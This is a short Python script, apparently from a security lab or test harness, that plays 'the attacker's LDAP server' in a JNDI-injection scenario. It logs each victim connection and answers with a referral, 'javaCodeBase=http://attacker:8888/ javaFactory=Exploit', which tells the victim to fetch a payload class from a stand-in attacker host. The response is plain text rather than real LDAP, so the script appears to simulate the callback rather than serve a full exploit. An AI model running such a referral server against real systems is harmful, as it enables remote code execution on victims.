#!/usr/bin/env python3
"""The attacker's LDAP server (marshalsec's default port 1389): answers any
connection with a referral to a payload class and records that it was reached.
Usage: attacker_ldap.py LISTEN_IP PORT LOGFILE"""
import socket
import sys

s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2])))
s.listen(16)
print("listening", flush=True)
while True:
    conn, addr = s.accept()
    with open(sys.argv[3], "a") as f:
        f.write(f"victim connected from {addr[0]}\n")
    try:
        conn.recv(4096)
        conn.sendall(b"javaCodeBase=http://attacker:8888/ javaFactory=Exploit\n")
    except OSError:
        pass
    conn.close()
